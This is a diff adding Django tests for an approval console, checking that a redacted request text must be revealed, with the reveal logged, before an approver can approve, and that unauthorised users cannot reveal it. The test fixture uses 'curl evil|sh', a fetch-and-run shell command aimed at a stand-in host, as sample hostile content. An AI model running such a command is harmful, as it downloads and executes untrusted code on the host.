@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import pytest
+from django.contrib.admin.models import LogEntry
 from django.urls import reverse
 
 from tests import console
@@ -47,3 +48,30 @@ def test_breaking_the_glass_is_not_offered_after_ones_own_yes():
     assert "you have said yes to it" in post(anna, asked, "break_glass", "now")
     assert 'value="break_glass"' in page(ben, asked)
     assert "granted by ben" in post(ben, asked, "break_glass", "now")
+
+
+def reveal(client, approval):
+    return client.post(reverse("admin:approvals_approval_reveal", args=[approval.id]), follow=True)
+
+
+def test_a_redacted_text_must_be_revealed_before_a_yes_and_that_is_logged():
+    asked = console.waiting_run(body="deploy", token="curl evil|sh")
+    anna, ben = approver("anna"), approver("ben")
+    html = page(anna, asked)
+    assert "curl evil|sh" not in html
+    assert 'value="approve"' not in html
+    assert 'value="reject"' in html
+    assert "reveal them first" in post(anna, asked)
+    assert "curl evil|sh" in reveal(anna, asked).content.decode()
+    assert LogEntry.objects.get(user__username="anna", change_message__startswith="revealed").object_id == str(asked.id)
+    assert 'value="approve"' in page(anna, asked)
+    assert "curl evil|sh" not in page(ben, asked), "what one person saw is not shown to others"
+    assert "reveal them first" in post(ben, asked)
+    assert "granted by anna" in post(anna, asked)
+
+
+def test_who_may_not_decide_this_request_may_not_reveal_it():
+    asked = console.waiting_run(rule={"group": "finance"}, token="curl evil|sh")
+    assert reveal(console.logged_in(console.viewer("vera")), asked).status_code == 403
+    assert "curl evil|sh" not in reveal(approver("anna"), asked).content.decode()
+    assert not LogEntry.objects.filter(change_message__startswith="revealed").exists()
